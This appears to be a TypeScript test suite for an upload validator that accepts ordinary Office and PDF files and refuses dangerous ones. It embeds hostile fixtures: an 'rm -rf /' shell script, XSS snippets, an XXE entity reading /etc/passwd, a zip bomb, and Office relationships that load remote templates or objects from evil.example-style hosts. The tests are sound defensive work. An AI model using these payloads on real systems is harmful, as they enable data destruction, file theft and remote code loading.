import { mkdtemp, open, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { attachmentKindOf } from '../../../server/src/files/attachment-kind.ts'
import { contentTypes } from '../../support/word.ts'
import { zipped } from '../../support/workbook.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'tongxin-kinds-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function kindOf(content: string | Uint8Array): Promise<string> {
  const path = join(folder, 'file')
  await writeFile(path, content)
  const file = await open(path)
  try {
    return await attachmentKindOf(file)
  } finally {
    await file.close()
  }
}

const OPEN = 'application/vnd.openxmlformats-officedocument'
const office = (main: string, more = '', parts: Record<string, string> = {}) =>
  zipped({ '[Content_Types].xml': contentTypes(main, more), 'word/document.xml': '<x/>', ...parts })
const override = (name: string, type: string) => `<Override PartName="${name}" ContentType="${type}"/>`
const DOCX = `${OPEN}.wordprocessingml.document.main+xml`
const XLSX = `${OPEN}.spreadsheetml.sheet.main+xml`
const PPTX = `${OPEN}.presentationml.presentation.main+xml`

test.each<[string, () => Promise<Buffer> | string, string]>([
  ['Word', () => office(DOCX), 'docx'],
  ['Excel', () => office(XLSX), 'xlsx'],
  ['PPT', () => office(PPTX), 'pptx'],
  ['PDF', () => '%PDF-1.4\n%âãÏÓ', 'pdf'],
])('%s 收下，不看名字', async (_, make, kind) => {
  expect(await kindOf(await make())).toBe(kind)
})

const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)])

test.each<[string, () => Promise<Buffer> | Buffer | string]>([
  ['程序', () => 'MZ\x90\0'],
  ['网页', () => '<!doctype html><script>alert(1)</script>'],
  ['SVG', () => '<svg onload="alert(1)"/>'],
  ['脚本', () => '#!/bin/sh\nrm -rf /'],
  ['前面有网页的 PDF', () => '<script>alert(1)</script>%PDF-1.7'],
  ['RTF', () => '{\\rtf1}'],
  ['旧格式或有密码', () => OLE],
  ['一般的压缩包', () => zipped({ 'a.txt': 'x' })],
  ['没有主文档的', () => office('application/xml')],
  ['说自己既是 Word 又是 Excel 的', () => office(DOCX, override('/b.xml', XLSX))],
  ['Word 模板', () => office(`${OPEN}.wordprocessingml.template.main+xml`)],
  ['EPUB', () => zipped({ mimetype: 'application/epub+zip', 'META-INF/container.xml': '<x/>' })],
  ['安装包', () => zipped({ 'AndroidManifest.xml': 'x', 'classes.dex': 'x' })],
  ['坏了的压缩包', () => 'PK\x03\x04坏了'],
  ['空的压缩包', () => 'PK\x05\x06' + '\0'.repeat(18)],
  ['目录是个压缩炸弹', () => zipped({ '[Content_Types].xml': Buffer.alloc(5 * 1024 * 1024, ' ') })],
  [
    '目录里有实体',
    () =>
      zipped({
        '[Content_Types].xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${contentTypes()}`,
      }),
  ],
])('%s 不收', async (_, make) => {
  await expect(kindOf(await make())).rejects.toMatchObject({ code: 'file_type_refused' })
})

const MACRO = 'application/vnd.ms-word.document.macroEnabled.main+xml'
test.each<[string, () => Promise<Buffer>]>([
  ['.docm', () => office(MACRO)],
  ['.xlsm', () => office('application/vnd.ms-excel.sheet.macroEnabled.main+xml')],
  ['.pptm', () => office('application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml')],
  ['.xlam', () => office('application/vnd.ms-excel.addin.macroEnabled.main+xml')],
  ['类型写着普通，里面有宏', () => office(DOCX, '', { 'word/vbaProject.bin': 'x' })],
  ['宏换了大小写', () => office(XLSX, '', { 'xl/VBAPROJECT.BIN': 'x' })],
  ['宏放在别处', () => office(PPTX, '', { 'a/b/vbaProject.bin': 'x' })],
  [
    '宏换了名字，类型里说了',
    () => office(DOCX, override('/word/a.bin', 'application/vnd.ms-office.vbaProject')),
  ],
  [
    '按后缀说的类型',
    () => office(DOCX, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
  ],
  ['类型换了大小写', () => office(DOCX, override('/word/a.bin', 'APPLICATION/VND.MS-OFFICE.VBAPROJECT'))],
  ['宏表（Excel 4.0）', () => office(XLSX, override('/xl/a.xml', 'application/vnd.ms-excel.macrosheet+xml'))],
  ['宏表换了名字', () => office(XLSX, '', { 'xl/macrosheets/sheet1.xml': '<x/>' })],
  ['控件', () => office(DOCX, '', { 'word/activeX/activeX1.bin': 'x' })],
])('带宏的不收：%s', async (_, make) => {
  await expect(kindOf(await make())).rejects.toMatchObject({ code: 'file_macros_refused' })
})

/** The zip is whole, what is packed in this part is not. */
async function damaged(parts: Record<string, string>, part: string): Promise<Buffer> {
  const content = await zipped(parts)
  // The name of the part stands before its bytes, and once more in the directory.
  const at = content.indexOf(part) + Buffer.byteLength(part)
  content.fill(0xff, at + 2, at + 20)
  return content
}

test.each(['[Content_Types].xml', 'word/_rels/document.xml.rels'])(
  '压缩的内容坏了的不收：%s',
  async (part) => {
    const parts = {
      '[Content_Types].xml': contentTypes(),
      'word/document.xml': '<x/>',
      'word/_rels/document.xml.rels': relation('image', 'a.png'.repeat(50)),
    }
    await expect(kindOf(await damaged(parts, part))).rejects.toMatchObject({ code: 'file_type_refused' })
  },
)

const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const withRelation = (relations: string, name = 'word/_rels/settings.xml.rels') =>
  office(DOCX, '', { [name]: relations })

test.each<[string, string, string?]>([
  ['网上的模板', relation('attachedTemplate', 'https://evil.example/a.dotm')],
  ['共享文件夹里的模板', relation('attachedTemplate', '\\\\evil\\share\\a.dotm')],
  ['写成 file: 的共享文件夹', relation('attachedTemplate', 'file://evil/share/a.dotm')],
  ['写成 file:/// 的共享文件夹', relation('attachedTemplate', 'file:///\\\\evil\\share\\a.dotm')],
  [
    '网上的对象',
    relation('oleObject', 'mhtml:http://evil.example/a.html!x-usc:b'),
    'word/_rels/document.xml.rels',
  ],
  ['网上的框架', relation('frame', 'http://evil.example/'), 'word/_rels/webSettings.xml.rels'],
  ['换了大小写', relation('ATTACHEDTEMPLATE', 'HTTPS://evil.example/', 'external'), 'WORD/_rels/A.XML.RELS'],
])('打开时会从别处加载东西的不收：%s', async (_, relations, name = 'word/_rels/settings.xml.rels') => {
  await expect(kindOf(await withRelation(relations, name))).rejects.toMatchObject({
    code: 'file_macros_refused',
  })
})

test.each<[string, string]>([
  ['自己电脑里的模板', relation('attachedTemplate', 'file:///C:\\Users\\a\\Templates\\公文.dotx')],
  ['同一文件夹的模板', relation('attachedTemplate', 'Normal.dotm')],
  ['链接', relation('hyperlink', 'https://www.12371.cn/')],
  ['网上的图片', relation('image', 'https://www.12371.cn/a.png')],
  ['里面的对象', relation('oleObject', 'embeddings/oleObject1.bin', 'Internal')],
])('平常的照收：%s', async (_, relations) => {
  expect(await kindOf(await withRelation(relations))).toBe('docx')
})

test.each<[string, string | Buffer]>([
  ['太大', Buffer.alloc(2 * 1024 * 1024, ' ')],
  ['有实体', `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${relation('image', '&a;')}`],
  ['不是 XML', '不是'],
])('说明链接的部分读不了的不收：%s', async (_, relations) => {
  const content = await zipped({
    '[Content_Types].xml': contentTypes(),
    'word/document.xml': '<x/>',
    'word/_rels/document.xml.rels': relations,
  })
  await expect(kindOf(content)).rejects.toMatchObject({ code: 'file_type_refused' })
})
